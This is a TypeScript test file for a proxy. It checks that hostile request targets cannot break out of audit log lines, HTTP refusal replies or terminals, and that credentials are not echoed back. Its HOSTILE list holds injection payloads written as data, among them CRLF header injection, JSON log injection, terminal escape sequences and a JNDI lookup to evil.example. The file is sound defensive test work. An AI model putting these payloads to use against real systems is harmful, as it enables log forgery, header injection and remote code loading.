/** Hostile text in targets, names and details: it must not break out of a reply, an audit line or a terminal, and credentials must not get in. */
import { describe, expect, test } from 'vitest'
import { outcomeEntry } from '../../proxy/audit/entry.ts'
import { parseConnectHead } from '../../proxy/dialects/connect-head.ts'
import { parseAbsoluteTarget } from '../../proxy/dialects/http-target.ts'
import { httpRefusal } from '../../proxy/dialects/reply.ts'
import { parseSocksRequest } from '../../proxy/dialects/socks5.ts'
import type { Reason } from '../../proxy/reasons.ts'

const HOSTILE = [
  'evil.example\r\nX-Injected: 1',
  'evil.example\n{"kind":"decision","decision":"allow"}',
  'evil.example","decision":"allow","x":"',
  '\x1b]0;owned\x07\x1b[2J\x1b[31m',
  'evil.example\0.allowed.example',
  '\x9b31m\x85\xa0',
  '<script>alert(1)</script>',
  '\xe2\x80\xae',
  '${jndi:ldap://evil.example/}',
  '%0d%0aX-Injected:%201',
  'a'.repeat(30_000),
]

/** What each dialect hands to the audit log for a hostile target, if it hands out anything. */
function targetsOf(text: string): string[] {
  const bytes = Buffer.from(text, 'latin1')
  const connect = parseConnectHead(Buffer.from(`CONNECT ${text}:443 HTTP/1.1\r\n\r\n`, 'latin1'))
  const absolute = parseAbsoluteTarget('GET', `http://${text}/`)
  const socks = parseSocksRequest(
    Buffer.concat([
      Buffer.from([5, 1, 0, 3, Math.min(255, bytes.length)]),
      bytes.subarray(0, 255),
      Buffer.from([1, 187]),
    ]),
  )
  return [
    connect.state === 'more' ? undefined : connect.target,
    absolute.ok ? absolute.target : absolute.requested,
    socks.state === 'done' ? socks.target : undefined,
  ].filter((target) => target !== undefined)
}

describe.each(HOSTILE)('the target %j', (text) => {
  test('stays inside one printable audit line, cut to a bounded length', () => {
    const targets = targetsOf(text)
    expect(targets.length).toBeGreaterThan(1)
    for (const target of targets) {
      const request = {
        requestId: 'r',
        dialect: 'connect',
        target,
        credentials: { kind: 'none' },
        client: { address: '192.0.2.1', port: 1 },
      } as const
      const line = JSON.stringify(outcomeEntry(request, { ok: false, reason: 'target_malformed' }))
      expect(line).toMatch(/^[\x20-\x7e]{1,2000}$/)
      expect((JSON.parse(line) as { decision: string }).decision).toBe('deny')
    }
  })

  test('stays inside its place in a reply', () => {
    const reply = httpRefusal(
      { ok: false, reason: 'target_malformed', detail: `the target is \`${text}\`` },
      { requestId: 'r' },
    ).toString('latin1')
    const [head = '', body = ''] = reply.split('\r\n\r\n')
    expect(reply.split('\r\n\r\n')).toHaveLength(2)
    for (const line of head.split('\r\n').slice(1)) expect(line).toMatch(/^[a-z-]+: [\x20-\x7e]*$/)
    expect(head.toLowerCase()).not.toMatch(/^x-injected/m)
    expect(body).toMatch(/^[\x20-\x7e]*\n$/)
    expect(head).toContain('\r\ncontent-type: application/json\r\n')
    expect(head).toContain('\r\nx-content-type-options: nosniff\r\n')
  })
})

test('credentials put into a target by mistake are not repeated', () => {
  const secret = 'eyJhbGciOi.s3cr3t'
  for (const text of [
    `sbx:${secret}@a.example`,
    `${secret}@a.example`,
    `${secret}:@a.example`,
    `x@${secret}@a.example`,
  ]) {
    for (const target of targetsOf(text).slice(0, 2)) expect(target).not.toContain('s3cr3t')
    const broken = parseConnectHead(Buffer.from(`CONNECT ${text}:443 HTTP/1.1\r\nbroken\r\n\r\n`, 'latin1'))
    expect(JSON.stringify(broken)).not.toContain('s3cr3t')
  }
})

test('no refusal of a head repeats a header value', () => {
  const heads = [
    'Proxy-Authorization: Bearer s3cr3t\r\nProxy-Authorization: Bearer s3cr3t',
    'Proxy-Authorization: Bearer s3cr3t\r\nContent-Length: 1',
    'Proxy-Authorization : Bearer s3cr3t',
  ]
  for (const fields of heads) {
    const head = parseConnectHead(Buffer.from(`CONNECT a.example:443 HTTP/1.1\r\n${fields}\r\n\r\n`))
    expect(head.state).toBe('refused')
    expect(JSON.stringify(head)).not.toContain('s3cr3t')
    if (head.state !== 'refused') continue
    const reason: Reason = head.reason
    expect(httpRefusal({ ok: false, reason, detail: head.detail }, { requestId: 'r' }).toString()).not.toContain(
      's3cr3t',
    )
  }
})
